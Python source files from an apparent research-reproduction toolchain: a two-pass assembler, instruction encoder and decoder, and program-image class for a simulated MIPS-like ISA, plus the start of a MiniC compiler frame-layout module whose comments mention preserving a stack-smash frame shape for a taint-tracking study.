    def spec(self) -> InstrSpec:
        return SPECS[self.name]

    def __str__(self) -> str:
        return self.text or self.name


def disassemble(instr: Instr) -> str:
    """Render an :class:`Instr` in the paper's notation, e.g. ``sw $21,0($3)``."""
    spec = SPECS[instr.name]
    n = instr.name
    if spec.fmt == FMT_R3:
        return f"{n} ${instr.rd},${instr.rs},${instr.rt}"
    if spec.fmt == FMT_SHIFT:
        return f"{n} ${instr.rd},${instr.rt},{instr.shamt}"
    if spec.fmt == FMT_SHIFTV:
        return f"{n} ${instr.rd},${instr.rt},${instr.rs}"
    if spec.fmt == FMT_MULDIV:
        return f"{n} ${instr.rs},${instr.rt}"
    if spec.fmt == FMT_MOVEHL:
        return f"{n} ${instr.rd}"
    if spec.fmt == FMT_JR:
        return f"{n} ${instr.rs}"
    if spec.fmt == FMT_JALR:
        return f"{n} ${instr.rd},${instr.rs}"
    if spec.fmt == FMT_I2:
        return f"{n} ${instr.rt},${instr.rs},{instr.imm}"
    if spec.fmt == FMT_LUI:
        return f"{n} ${instr.rt},{instr.imm:#x}"
    if spec.fmt == FMT_MEM:
        return f"{n} ${instr.rt},{instr.imm}(${instr.rs})"
    if spec.fmt == FMT_BR2:
        return f"{n} ${instr.rs},${instr.rt},{instr.imm}"
    if spec.fmt == FMT_BR1:
        return f"{n} ${instr.rs},{instr.imm}"
    if spec.fmt == FMT_J:
        return f"{n} {instr.target:#x}"
    return n
