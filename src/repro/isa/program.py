"""Executable program images produced by the assembler.

An :class:`Executable` is the loadable result of assembling one translation
unit (our toolchain concatenates all assembly modules into a single unit, so
no separate linker is needed): encoded text words, an initialized data
segment, the symbol table, and the entry point.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from ..mem.layout import DATA_BASE, TEXT_BASE
from .instructions import Instr


@dataclass
class Executable:
    """A fully assembled, loadable program image."""

    text_base: int = TEXT_BASE
    data_base: int = DATA_BASE
    #: Encoded instruction words, one per text slot.
    text_words: List[int] = field(default_factory=list)
    #: Decoded instructions parallel to ``text_words`` (decode cache).
    instructions: List[Instr] = field(default_factory=list)
    #: Initialized data segment contents.
    data: bytearray = field(default_factory=bytearray)
    #: Symbol name -> absolute address.
    symbols: Dict[str, int] = field(default_factory=dict)
    #: Text address -> source line (for diagnostics and alert reporting).
    source_map: Dict[int, str] = field(default_factory=dict)
    entry_symbol: str = "_start"

    @property
    def text_end(self) -> int:
        return self.text_base + 4 * len(self.text_words)

    @property
    def data_end(self) -> int:
        return self.data_base + len(self.data)

    @property
    def entry(self) -> int:
        try:
            return self.symbols[self.entry_symbol]
        except KeyError:
            raise KeyError(
                f"entry symbol {self.entry_symbol!r} not defined"
            ) from None

    def address_of(self, symbol: str) -> int:
        """Absolute address of a label (text or data)."""
        return self.symbols[symbol]

    def instruction_at(self, addr: int) -> Instr:
        """Decoded instruction at a text address."""
        index = (addr - self.text_base) >> 2
        if not 0 <= index < len(self.instructions):
            raise IndexError(f"address {addr:#x} outside text segment")
        return self.instructions[index]

    def symbol_at(
        self, addr: int, include_internal: bool = False
    ) -> Optional[str]:
        """Best-effort reverse symbol lookup (nearest preceding label).

        Compiler-internal labels (``.L...``, string-pool ``_str...``) are
        skipped unless ``include_internal`` is set, so the result names the
        enclosing function.
        """
        best: Tuple[int, Optional[str]] = (-1, None)
        for name, value in self.symbols.items():
            if not include_internal and (
                name.startswith(".") or name.startswith("_str")
            ):
                continue
            if value <= addr and value > best[0]:
                best = (value, name)
        return best[1]

    def disassembly(self) -> str:
        """Full text-segment listing (address, word, mnemonic)."""
        lines = []
        addr_to_label: Dict[int, List[str]] = {}
        for name, value in self.symbols.items():
            addr_to_label.setdefault(value, []).append(name)
        for i, (word, instr) in enumerate(zip(self.text_words, self.instructions)):
            addr = self.text_base + 4 * i
            for label in addr_to_label.get(addr, ()):
                lines.append(f"{label}:")
            lines.append(f"  {addr:08x}: {word:08x}  {instr.text}")
        return "\n".join(lines)
