"""Two-pass assembler for the simulated RISC ISA.

Supports the subset of classic MIPS assembly our toolchain and hand-written
runtime sources need:

* sections: ``.text`` / ``.data``
* data directives: ``.word``, ``.half``, ``.byte``, ``.ascii``, ``.asciiz``,
  ``.space``, ``.align``, ``.equ``
* labels, ``#``/``;`` comments, character/decimal/hex literals
* symbolic expressions ``label+4`` / ``label-8`` in ``.word`` and ``la``
* the usual pseudo-instructions (``li``, ``la``, ``move``, ``nop``, ``b``,
  ``beqz``/``bnez``, ``blt``/``bgt``/``ble``/``bge`` + unsigned forms,
  ``neg``, ``not``)

Pass 1 parses lines, expands pseudo-instructions into fixed-size proto
instructions and assigns addresses; pass 2 resolves symbols, computes branch
displacements, encodes, and produces an :class:`Executable`.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence, Tuple

from ..mem.layout import DATA_BASE, TEXT_BASE
from .encoding import ZERO_EXTEND_IMM, encode
from .instructions import (
    FMT_BR1,
    FMT_BR2,
    FMT_I2,
    FMT_J,
    FMT_JALR,
    FMT_JR,
    FMT_LUI,
    FMT_MEM,
    FMT_MOVEHL,
    FMT_MULDIV,
    FMT_NONE,
    FMT_R3,
    FMT_SHIFT,
    FMT_SHIFTV,
    Instr,
    REG_AT,
    REG_RA,
    SPECS,
    disassemble,
    register_number,
)
from .program import Executable


class AssemblerError(Exception):
    """Raised on any assembly-time problem, with source location."""

    def __init__(self, message: str, line_no: int = 0, line: str = "") -> None:
        location = f" (line {line_no}: {line.strip()!r})" if line_no else ""
        super().__init__(message + location)
        self.line_no = line_no


_ESCAPES = {
    "n": "\n", "t": "\t", "r": "\r", "0": "\0", "\\": "\\",
    '"': '"', "'": "'",
}

_LABEL_RE = re.compile(r"^[A-Za-z_.$][A-Za-z0-9_.$]*$")
_MEM_RE = re.compile(r"^(.*)\(\s*(\$\w+)\s*\)$")


def _unescape(body: str, line_no: int, line: str) -> str:
    """Process backslash escapes inside a string literal body."""
    out: List[str] = []
    i = 0
    while i < len(body):
        ch = body[i]
        if ch != "\\":
            out.append(ch)
            i += 1
            continue
        if i + 1 >= len(body):
            raise AssemblerError("dangling backslash", line_no, line)
        nxt = body[i + 1]
        if nxt == "x":
            hex_digits = body[i + 2 : i + 4]
            if len(hex_digits) < 2:
                raise AssemblerError("bad \\x escape", line_no, line)
            out.append(chr(int(hex_digits, 16)))
            i += 4
        elif nxt in _ESCAPES:
            out.append(_ESCAPES[nxt])
            i += 2
        else:
            raise AssemblerError(f"unknown escape \\{nxt}", line_no, line)
    return "".join(out)


@dataclass
class _Proto:
    """A concrete instruction awaiting pass-2 symbol resolution."""

    name: str
    operands: Tuple[str, ...]
    addr: int
    line_no: int
    line: str


@dataclass
class _DataFixup:
    """A data word that references a symbol, patched in pass 2."""

    offset: int  # offset within the data segment
    expr: str
    line_no: int
    line: str


class Assembler:
    """Two-pass assembler producing :class:`Executable` images."""

    def __init__(
        self, text_base: int = TEXT_BASE, data_base: int = DATA_BASE
    ) -> None:
        self.text_base = text_base
        self.data_base = data_base

    # ------------------------------------------------------------------
    # public API
    # ------------------------------------------------------------------

    def assemble(self, source: str, entry_symbol: str = "_start") -> Executable:
        """Assemble one translation unit into an executable image."""
        self._symbols: Dict[str, int] = {}
        self._equates: Dict[str, int] = {}
        self._protos: List[_Proto] = []
        self._data = bytearray()
        self._data_fixups: List[_DataFixup] = []
        self._section = "text"
        self._text_addr = self.text_base
        self._pending_data_labels: List[str] = []

        self._pass_one(source)
        self._bind_pending_data_labels()
        return self._pass_two(entry_symbol)

    # ------------------------------------------------------------------
    # pass 1
    # ------------------------------------------------------------------

    def _pass_one(self, source: str) -> None:
        for line_no, raw in enumerate(source.splitlines(), start=1):
            line = self._strip_comment(raw)
            if not line.strip():
                continue
            rest = line.strip()
            # Peel off any leading labels.
            while True:
                colon = self._find_label_colon(rest)
                if colon is None:
                    break
                label = rest[:colon].strip()
                if not _LABEL_RE.match(label):
                    raise AssemblerError(f"bad label {label!r}", line_no, raw)
                self._define_symbol(label, line_no, raw)
                rest = rest[colon + 1 :].strip()
            if not rest:
                continue
            if rest.startswith("."):
                self._directive(rest, line_no, raw)
            else:
                self._instruction(rest, line_no, raw)

    @staticmethod
    def _strip_comment(line: str) -> str:
        """Remove ``#`` / ``;`` comments, respecting string/char literals."""
        out: List[str] = []
        quote: Optional[str] = None
        i = 0
        while i < len(line):
            ch = line[i]
            if quote:
                out.append(ch)
                if ch == "\\" and i + 1 < len(line):
                    out.append(line[i + 1])
                    i += 2
                    continue
                if ch == quote:
                    quote = None
            elif ch in "\"'":
                quote = ch
                out.append(ch)
            elif ch in "#;":
                break
            else:
                out.append(ch)
            i += 1
        return "".join(out)

    @staticmethod
    def _find_label_colon(text: str) -> Optional[int]:
        """Index of a leading label's colon, or None."""
        for i, ch in enumerate(text):
            if ch == ":":
                return i
            if not (ch.isalnum() or ch in "_.$"):
                return None
        return None

    def _define_symbol(self, name: str, line_no: int, raw: str) -> None:
        if name in self._symbols or name in self._equates:
            raise AssemblerError(f"duplicate symbol {name!r}", line_no, raw)
        if self._section == "text":
            self._symbols[name] = self._text_addr
        else:
            # Data labels bind lazily at the next data emission, so a label
            # in front of an aligning directive points at the aligned data,
            # not at padding.
            self._pending_data_labels.append(name)

    def _bind_pending_data_labels(self) -> None:
        addr = self.data_base + len(self._data)
        for name in self._pending_data_labels:
            self._symbols[name] = addr
        self._pending_data_labels.clear()

    # -- directives ------------------------------------------------------

    def _directive(self, rest: str, line_no: int, raw: str) -> None:
        parts = rest.split(None, 1)
        name = parts[0]
        arg = parts[1] if len(parts) > 1 else ""
        if name == ".text":
            self._bind_pending_data_labels()
            self._section = "text"
        elif name == ".data":
            self._section = "data"
        elif name in (".globl", ".global", ".ent", ".end", ".type", ".size"):
            pass  # accepted and ignored
        elif name == ".equ":
            sym, _, expr = arg.partition(",")
            sym = sym.strip()
            if not _LABEL_RE.match(sym):
                raise AssemblerError(f"bad .equ name {sym!r}", line_no, raw)
            self._equates[sym] = self._parse_int(expr.strip(), line_no, raw)
        elif name == ".align":
            power = self._parse_int(arg.strip(), line_no, raw)
            self._align(1 << power)
        elif name == ".space":
            count = self._parse_int(arg.strip(), line_no, raw)
            self._require_data(name, line_no, raw)
            self._bind_pending_data_labels()
            self._data.extend(b"\0" * count)
        elif name == ".word":
            self._require_data(name, line_no, raw)
            self._align(4)
            self._bind_pending_data_labels()
            for item in self._split_operands(arg):
                value = self._try_parse_int(item)
                if value is None:
                    self._data_fixups.append(
                        _DataFixup(len(self._data), item, line_no, raw)
                    )
                    value = 0
                self._data.extend((value & 0xFFFFFFFF).to_bytes(4, "little"))
        elif name == ".half":
            self._require_data(name, line_no, raw)
            self._align(2)
            self._bind_pending_data_labels()
            for item in self._split_operands(arg):
                value = self._parse_int(item, line_no, raw)
                self._data.extend((value & 0xFFFF).to_bytes(2, "little"))
        elif name == ".byte":
            self._require_data(name, line_no, raw)
            self._bind_pending_data_labels()
            for item in self._split_operands(arg):
                value = self._parse_int(item, line_no, raw)
                self._data.append(value & 0xFF)
        elif name in (".ascii", ".asciiz"):
            self._require_data(name, line_no, raw)
            text = arg.strip()
            if len(text) < 2 or text[0] != '"' or text[-1] != '"':
                raise AssemblerError("string literal expected", line_no, raw)
            body = _unescape(text[1:-1], line_no, raw)
            self._bind_pending_data_labels()
            self._data.extend(body.encode("latin-1"))
            if name == ".asciiz":
                self._data.append(0)
        else:
            raise AssemblerError(f"unknown directive {name}", line_no, raw)

    def _require_data(self, directive: str, line_no: int, raw: str) -> None:
        if self._section != "data":
            raise AssemblerError(
                f"{directive} outside .data section", line_no, raw
            )

    def _align(self, boundary: int) -> None:
        while len(self._data) % boundary:
            self._data.append(0)

    # -- instructions ------------------------------------------------------

    def _instruction(self, rest: str, line_no: int, raw: str) -> None:
        if self._section != "text":
            raise AssemblerError("instruction outside .text", line_no, raw)
        parts = rest.split(None, 1)
        mnemonic = parts[0].lower()
        operands = tuple(self._split_operands(parts[1] if len(parts) > 1 else ""))
        for name, ops in self._expand(mnemonic, operands, line_no, raw):
            self._protos.append(_Proto(name, tuple(ops), self._text_addr, line_no, raw))
            self._text_addr += 4

    def _expand(
        self,
        mnemonic: str,
        ops: Tuple[str, ...],
        line_no: int,
        raw: str,
    ) -> List[Tuple[str, Sequence[str]]]:
        """Expand pseudo-instructions; real instructions pass through."""
        at = f"${REG_AT}"
        if mnemonic in SPECS:
            return [(mnemonic, ops)]
        if mnemonic == "nop":
            return [("sll", ("$0", "$0", "0"))]
        if mnemonic == "move":
            self._arity(ops, 2, line_no, raw)
            return [("addu", (ops[0], ops[1], "$0"))]
        if mnemonic == "neg":
            self._arity(ops, 2, line_no, raw)
            return [("sub", (ops[0], "$0", ops[1]))]
        if mnemonic == "not":
            self._arity(ops, 2, line_no, raw)
            return [("nor", (ops[0], ops[1], "$0"))]
        if mnemonic == "b":
            self._arity(ops, 1, line_no, raw)
            return [("beq", ("$0", "$0", ops[0]))]
        if mnemonic == "beqz":
            self._arity(ops, 2, line_no, raw)
            return [("beq", (ops[0], "$0", ops[1]))]
        if mnemonic == "bnez":
            self._arity(ops, 2, line_no, raw)
            return [("bne", (ops[0], "$0", ops[1]))]
        if mnemonic in ("blt", "bge", "bgt", "ble", "bltu", "bgeu", "bgtu", "bleu"):
            self._arity(ops, 3, line_no, raw)
            slt = "sltu" if mnemonic.endswith("u") else "slt"
            base = mnemonic.rstrip("u") if mnemonic.endswith("u") else mnemonic
            if base in ("blt", "bge"):
                first = (slt, (at, ops[0], ops[1]))
            else:  # bgt / ble swap operands
                first = (slt, (at, ops[1], ops[0]))
            branch = "bne" if base in ("blt", "bgt") else "beq"
            return [first, (branch, (at, "$0", ops[2]))]
        if mnemonic == "li":
            self._arity(ops, 2, line_no, raw)
            value = self._parse_int(ops[1], line_no, raw) & 0xFFFFFFFF
            signed = value - 0x100000000 if value & 0x80000000 else value
            if -32768 <= signed <= 32767:
                return [("addiu", (ops[0], "$0", str(signed)))]
            hi = value >> 16 & 0xFFFF
            lo = value & 0xFFFF
            if lo == 0:
                return [("lui", (ops[0], str(hi)))]
            return [
                ("lui", (ops[0], str(hi))),
                ("ori", (ops[0], ops[0], str(lo))),
            ]
        if mnemonic == "la":
            self._arity(ops, 2, line_no, raw)
            # Always two instructions so pass-1 sizing never depends on the
            # (not yet known) symbol value.
            return [
                ("lui", (ops[0], f"%hi({ops[1]})")),
                ("ori", (ops[0], ops[0], f"%lo({ops[1]})")),
            ]
        raise AssemblerError(f"unknown mnemonic {mnemonic!r}", line_no, raw)

    @staticmethod
    def _arity(ops: Tuple[str, ...], n: int, line_no: int, raw: str) -> None:
        if len(ops) != n:
            raise AssemblerError(
                f"expected {n} operands, got {len(ops)}", line_no, raw
            )

    @staticmethod
    def _split_operands(text: str) -> List[str]:
        """Split on commas not inside parentheses/quotes."""
        items: List[str] = []
        depth = 0
        quote: Optional[str] = None
        current: List[str] = []
        for ch in text:
            if quote:
                current.append(ch)
                if ch == quote:
                    quote = None
                continue
            if ch in "\"'":
                quote = ch
                current.append(ch)
            elif ch == "(":
                depth += 1
                current.append(ch)
            elif ch == ")":
                depth -= 1
                current.append(ch)
            elif ch == "," and depth == 0:
                items.append("".join(current).strip())
                current = []
            else:
                current.append(ch)
        tail = "".join(current).strip()
        if tail:
            items.append(tail)
        return items

    # ------------------------------------------------------------------
    # expression handling
    # ------------------------------------------------------------------

    def _try_parse_int(self, text: str) -> Optional[int]:
        try:
            return self._parse_int(text, 0, "")
        except AssemblerError:
            return None

    def _parse_int(self, text: str, line_no: int, raw: str) -> int:
        """Parse a pure numeric literal (no symbols)."""
        text = text.strip()
        if not text:
            raise AssemblerError("empty integer literal", line_no, raw)
        if len(text) >= 3 and text[0] == "'" and text[-1] == "'":
            body = _unescape(text[1:-1], line_no, raw)
            if len(body) != 1:
                raise AssemblerError(f"bad char literal {text}", line_no, raw)
            return ord(body)
        try:
            return int(text, 0)
        except ValueError:
            raise AssemblerError(
                f"bad integer literal {text!r}", line_no, raw
            ) from None

    def _eval_expr(self, expr: str, line_no: int, raw: str) -> int:
        """Evaluate ``symbol``, ``number``, or ``a+b`` / ``a-b`` chains."""
        expr = expr.strip()
        tokens = re.split(r"([+-])", expr)
        # Re-join a leading unary minus with its operand.
        if tokens and tokens[0] == "":
            tokens = [tokens[1] + tokens[2]] + tokens[3:]
        total = 0
        op = "+"
        for token in tokens:
            token = token.strip()
            if token in ("+", "-"):
                op = token
                continue
            value = self._try_parse_int(token)
            if value is None:
                if token in self._equates:
                    value = self._equates[token]
                elif token in self._symbols:
                    value = self._symbols[token]
                else:
                    raise AssemblerError(
                        f"undefined symbol {token!r}", line_no, raw
                    )
            total = total + value if op == "+" else total - value
        return total

    def _resolve_imm(self, text: str, line_no: int, raw: str) -> int:
        """Resolve an immediate operand, including %hi()/%lo() forms."""
        text = text.strip()
        if text.startswith("%hi(") and text.endswith(")"):
            return self._eval_expr(text[4:-1], line_no, raw) >> 16 & 0xFFFF
        if text.startswith("%lo(") and text.endswith(")"):
            return self._eval_expr(text[4:-1], line_no, raw) & 0xFFFF
        return self._eval_expr(text, line_no, raw)

    # ------------------------------------------------------------------
    # pass 2
    # ------------------------------------------------------------------

    def _pass_two(self, entry_symbol: str) -> Executable:
        exe = Executable(
            text_base=self.text_base,
            data_base=self.data_base,
            entry_symbol=entry_symbol,
        )
        exe.symbols.update(self._equates)
        exe.symbols.update(self._symbols)

        for fixup in self._data_fixups:
            value = self._eval_expr(fixup.expr, fixup.line_no, fixup.line)
            exe_bytes = (value & 0xFFFFFFFF).to_bytes(4, "little")
            self._data[fixup.offset : fixup.offset + 4] = exe_bytes
        exe.data = self._data

        for proto in self._protos:
            instr = self._build_instr(proto)
            instr.text = disassemble(instr)
            exe.instructions.append(instr)
            exe.text_words.append(encode(instr))
            exe.source_map[proto.addr] = proto.line.strip()
        return exe

    def _build_instr(self, proto: _Proto) -> Instr:
        spec = SPECS[proto.name]
        ops = proto.operands
        line_no, raw = proto.line_no, proto.line
        fmt = spec.fmt

        def reg(i: int) -> int:
            try:
                return register_number(ops[i])
            except (ValueError, IndexError) as exc:
                raise AssemblerError(str(exc), line_no, raw) from None

        def imm(i: int) -> int:
            try:
                return self._resolve_imm(ops[i], line_no, raw)
            except IndexError:
                raise AssemblerError("missing immediate", line_no, raw) from None

        instr = Instr(proto.name, spec.klass)
        if fmt == FMT_R3:
            self._arity(ops, 3, line_no, raw)
            instr.rd, instr.rs, instr.rt = reg(0), reg(1), reg(2)
        elif fmt == FMT_SHIFT:
            self._arity(ops, 3, line_no, raw)
            instr.rd, instr.rt, instr.shamt = reg(0), reg(1), imm(2) & 0x1F
        elif fmt == FMT_SHIFTV:
            self._arity(ops, 3, line_no, raw)
            instr.rd, instr.rt, instr.rs = reg(0), reg(1), reg(2)
        elif fmt == FMT_MULDIV:
            self._arity(ops, 2, line_no, raw)
            instr.rs, instr.rt = reg(0), reg(1)
        elif fmt == FMT_MOVEHL:
            self._arity(ops, 1, line_no, raw)
            instr.rd = reg(0)
        elif fmt == FMT_JR:
            self._arity(ops, 1, line_no, raw)
            instr.rs = reg(0)
        elif fmt == FMT_JALR:
            if len(ops) == 1:
                instr.rd, instr.rs = REG_RA, reg(0)
            else:
                self._arity(ops, 2, line_no, raw)
                instr.rd, instr.rs = reg(0), reg(1)
        elif fmt == FMT_I2:
            self._arity(ops, 3, line_no, raw)
            instr.rt, instr.rs = reg(0), reg(1)
            instr.imm = self._check_imm16(proto.name, imm(2), line_no, raw)
        elif fmt == FMT_LUI:
            self._arity(ops, 2, line_no, raw)
            instr.rt = reg(0)
            instr.imm = imm(1) & 0xFFFF
        elif fmt == FMT_MEM:
            self._arity(ops, 2, line_no, raw)
            instr.rt = reg(0)
            match = _MEM_RE.match(ops[1].strip())
            if not match:
                raise AssemblerError(
                    f"bad memory operand {ops[1]!r}", line_no, raw
                )
            offset_text = match.group(1).strip() or "0"
            instr.imm = self._check_imm16(
                proto.name,
                self._resolve_imm(offset_text, line_no, raw),
                line_no,
                raw,
            )
            try:
                instr.rs = register_number(match.group(2))
            except ValueError as exc:
                raise AssemblerError(str(exc), line_no, raw) from None
        elif fmt == FMT_BR2:
            self._arity(ops, 3, line_no, raw)
            instr.rs, instr.rt = reg(0), reg(1)
            instr.imm = self._branch_offset(ops[2], proto)
        elif fmt == FMT_BR1:
            self._arity(ops, 2, line_no, raw)
            instr.rs = reg(0)
            instr.imm = self._branch_offset(ops[1], proto)
        elif fmt == FMT_J:
            self._arity(ops, 1, line_no, raw)
            instr.target = self._eval_expr(ops[0], line_no, raw)
        elif fmt == FMT_NONE:
            pass
        else:  # pragma: no cover - formats are exhaustive
            raise AssemblerError(f"unhandled format {fmt}", line_no, raw)
        return instr

    def _check_imm16(
        self, name: str, value: int, line_no: int, raw: str
    ) -> int:
        if name in ZERO_EXTEND_IMM:
            if not 0 <= value <= 0xFFFF:
                value &= 0xFFFF
            return value
        if not -0x8000 <= value <= 0x7FFF:
            raise AssemblerError(
                f"immediate {value} out of 16-bit range for {name}",
                line_no,
                raw,
            )
        return value

    def _branch_offset(self, label: str, proto: _Proto) -> int:
        target = self._eval_expr(label, proto.line_no, proto.line)
        delta = target - (proto.addr + 4)
        if delta & 3:
            raise AssemblerError(
                f"misaligned branch target {target:#x}",
                proto.line_no,
                proto.line,
            )
        offset = delta >> 2
        if not -0x8000 <= offset <= 0x7FFF:
            raise AssemblerError(
                f"branch target {target:#x} out of range",
                proto.line_no,
                proto.line,
            )
        return offset


def assemble(source: str, entry_symbol: str = "_start") -> Executable:
    """Assemble ``source`` with default segment bases."""
    return Assembler().assemble(source, entry_symbol)
