"""SimpleScalar-like RISC ISA: instructions, encoding, assembler, images."""

from .assembler import Assembler, AssemblerError, assemble
from .encoding import decode, encode, sign_extend16
from .instructions import (
    Instr,
    InstrSpec,
    LOAD_INFO,
    REGISTER_NAMES,
    SPECS,
    STORE_INFO,
    disassemble,
    register_name,
    register_number,
)
from .program import Executable

__all__ = [
    "Assembler",
    "AssemblerError",
    "assemble",
    "decode",
    "encode",
    "sign_extend16",
    "Instr",
    "InstrSpec",
    "LOAD_INFO",
    "REGISTER_NAMES",
    "SPECS",
    "STORE_INFO",
    "disassemble",
    "register_name",
    "register_number",
    "Executable",
]
