"""Binary encoding/decoding of instructions (MIPS-I compatible layout).

The simulator executes decoded :class:`~repro.isa.instructions.Instr`
objects for speed, but every instruction round-trips through a genuine
32-bit encoding so program images are real binaries: R-type
``op|rs|rt|rd|shamt|funct``, I-type ``op|rs|rt|imm16`` and J-type
``op|target26``.
"""

from __future__ import annotations

from typing import Dict, Optional, Tuple

from .instructions import (
    FMT_J,
    FMT_JALR,
    FMT_JR,
    FMT_MOVEHL,
    FMT_MULDIV,
    FMT_NONE,
    FMT_R3,
    FMT_SHIFT,
    FMT_SHIFTV,
    Instr,
    InstrSpec,
    SPECS,
    disassemble,
)

_MASK16 = 0xFFFF
_MASK26 = 0x03FFFFFF

#: Logical immediates are zero-extended; everything else sign-extends.
ZERO_EXTEND_IMM = frozenset({"andi", "ori", "xori", "lui", "sltiu"})

# Reverse lookup tables built once at import.
_BY_FUNCT: Dict[int, InstrSpec] = {
    spec.funct: spec for spec in SPECS.values() if spec.opcode == 0
}
_BY_REGIMM: Dict[int, InstrSpec] = {
    spec.regimm: spec for spec in SPECS.values() if spec.opcode == 1
}
_BY_OPCODE: Dict[int, InstrSpec] = {
    spec.opcode: spec
    for spec in SPECS.values()
    if spec.opcode not in (0, 1)
}


def sign_extend16(value: int) -> int:
    """Sign-extend a 16-bit field to a Python int."""
    value &= _MASK16
    return value - 0x10000 if value & 0x8000 else value


def encode(instr: Instr) -> int:
    """Encode a decoded instruction into its 32-bit word."""
    spec = SPECS[instr.name]
    fmt = spec.fmt
    if spec.opcode == 0:  # R-type
        word = spec.funct or 0
        if fmt in (FMT_R3,):
            word |= instr.rd << 11 | instr.rt << 16 | instr.rs << 21
        elif fmt == FMT_SHIFT:
            word |= instr.shamt << 6 | instr.rd << 11 | instr.rt << 16
        elif fmt == FMT_SHIFTV:
            word |= instr.rd << 11 | instr.rt << 16 | instr.rs << 21
        elif fmt == FMT_MULDIV:
            word |= instr.rt << 16 | instr.rs << 21
        elif fmt == FMT_MOVEHL:
            word |= instr.rd << 11
        elif fmt == FMT_JR:
            word |= instr.rs << 21
        elif fmt == FMT_JALR:
            word |= instr.rd << 11 | instr.rs << 21
        elif fmt == FMT_NONE:
            pass
        else:
            raise ValueError(f"cannot encode format {fmt!r}")
        return word
    if spec.opcode == 1:  # regimm branches
        return (
            1 << 26
            | instr.rs << 21
            | (spec.regimm or 0) << 16
            | instr.imm & _MASK16
        )
    if fmt == FMT_J:
        return spec.opcode << 26 | (instr.target >> 2) & _MASK26
    # I-type
    return (
        spec.opcode << 26
        | instr.rs << 21
        | instr.rt << 16
        | instr.imm & _MASK16
    )


def decode(word: int, pc: int = 0) -> Optional[Instr]:
    """Decode a 32-bit word into an :class:`Instr`, or None if illegal.

    ``pc`` is needed to resolve the region bits of J-type targets.
    """
    opcode = word >> 26 & 0x3F
    rs = word >> 21 & 0x1F
    rt = word >> 16 & 0x1F
    rd = word >> 11 & 0x1F
    shamt = word >> 6 & 0x1F
    funct = word & 0x3F
    imm16 = word & _MASK16

    if opcode == 0:
        spec = _BY_FUNCT.get(funct)
        if spec is None:
            return None
        instr = Instr(spec.name, spec.klass, rd=rd, rs=rs, rt=rt, shamt=shamt)
    elif opcode == 1:
        spec = _BY_REGIMM.get(rt)
        if spec is None:
            return None
        instr = Instr(spec.name, spec.klass, rs=rs, imm=sign_extend16(imm16))
    else:
        spec = _BY_OPCODE.get(opcode)
        if spec is None:
            return None
        if spec.fmt == FMT_J:
            target = ((pc + 4) & 0xF0000000) | (word & _MASK26) << 2
            instr = Instr(spec.name, spec.klass, target=target)
        else:
            imm = imm16 if spec.name in ZERO_EXTEND_IMM else sign_extend16(imm16)
            instr = Instr(spec.name, spec.klass, rs=rs, rt=rt, imm=imm)
    instr.text = disassemble(instr)
    return instr


def roundtrip(instr: Instr, pc: int = 0) -> Tuple[int, Instr]:
    """Encode then decode (used by tests to assert encoding fidelity)."""
    word = encode(instr)
    decoded = decode(word, pc)
    if decoded is None:
        raise ValueError(f"round-trip failed for {instr}")
    return word, decoded
