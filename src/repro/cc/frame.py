"""Shared MiniC front-end analyses: variable slots, frame layout, data.

Both backends -- the legacy single-pass accumulator code generator
(:mod:`repro.cc.codegen`, the ``-O0`` differential oracle) and the IR
pipeline (:mod:`repro.cc.lower` -> :mod:`repro.cc.passes` ->
:mod:`repro.cc.regalloc` -> :mod:`repro.cc.emit`, ``-O1``) -- must agree
exactly on *where variables live*:

* the frame geometry is part of the attack surface (a local buffer sits
  below the saved ``$fp``/``$ra`` words, giving the Figure 2 stack-smash
  shape), so locals keep identical ``$fp``-relative offsets at every
  optimization level;
* the ``$s``-register promotion set feeds the paper's compare-untaint
  fidelity rule (comparisons are emitted on the variable's *home*
  register), so both backends must promote the same names to the same
  registers.

This module is the single source of truth for both, plus the static-data
emission (globals and interned string literals) the two backends share.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Set, Tuple

from .ast_nodes import (
    ArrayType,
    Assign,
    Binary,
    Block,
    CType,
    Call,
    Conditional,
    Expr,
    ExprStmt,
    For,
    FuncDef,
    GlobalDecl,
    If,
    Index,
    LocalDecl,
    Return,
    Stmt,
    Unary,
    VarRef,
    While,
)
from .errors import CompileError

#: Callee-saved registers available for scalar promotion, in pick order.
SREGS: Tuple[str, ...] = (
    "$s0", "$s1", "$s2", "$s3", "$s4", "$s5", "$s6", "$s7",
)


@dataclass
class Slot:
    """Where a variable lives."""

    kind: str            # "frame" | "param" | "sreg" | "global"
    ctype: CType
    offset: int = 0      # frame/param: offset from $fp
    reg: str = ""        # sreg: home register
    label: str = ""      # global: data label


class FrameLayout:
    """Pre-pass results for one function: slots, frame size, s-reg usage."""

    def __init__(self) -> None:
        self.slots_by_node: Dict[int, Slot] = {}
        self.param_slots: Dict[str, Slot] = {}
        self.locals_size = 0
        self.used_sregs: List[str] = []


def align4(size: int) -> int:
    return (size + 3) & ~3


def collect_address_taken(func: FuncDef) -> Set[str]:
    """Names whose address is taken anywhere in the function."""
    taken: Set[str] = set()

    def walk_expr(expr: Optional[Expr]) -> None:
        if expr is None:
            return
        if isinstance(expr, Unary):
            if expr.op == "&" and isinstance(expr.operand, VarRef):
                taken.add(expr.operand.name)
            walk_expr(expr.operand)
        elif isinstance(expr, Binary):
            walk_expr(expr.left)
            walk_expr(expr.right)
        elif isinstance(expr, Assign):
            walk_expr(expr.target)
            walk_expr(expr.value)
        elif isinstance(expr, Conditional):
            walk_expr(expr.condition)
            walk_expr(expr.then_value)
            walk_expr(expr.else_value)
        elif isinstance(expr, Call):
            for arg in expr.args:
                walk_expr(arg)
        elif isinstance(expr, Index):
            walk_expr(expr.base)
            walk_expr(expr.index)

    def walk_stmt(stmt: Optional[Stmt]) -> None:
        if stmt is None:
            return
        if isinstance(stmt, Block):
            for inner in stmt.statements:
                walk_stmt(inner)
        elif isinstance(stmt, ExprStmt):
            walk_expr(stmt.expr)
        elif isinstance(stmt, LocalDecl):
            walk_expr(stmt.init)
        elif isinstance(stmt, If):
            walk_expr(stmt.condition)
            walk_stmt(stmt.then_branch)
            walk_stmt(stmt.else_branch)
        elif isinstance(stmt, While):
            walk_expr(stmt.condition)
            walk_stmt(stmt.body)
        elif isinstance(stmt, For):
            walk_stmt(stmt.init)
            walk_expr(stmt.condition)
            walk_expr(stmt.step)
            walk_stmt(stmt.body)
        elif isinstance(stmt, Return):
            walk_expr(stmt.value)

    walk_stmt(func.body)
    return taken


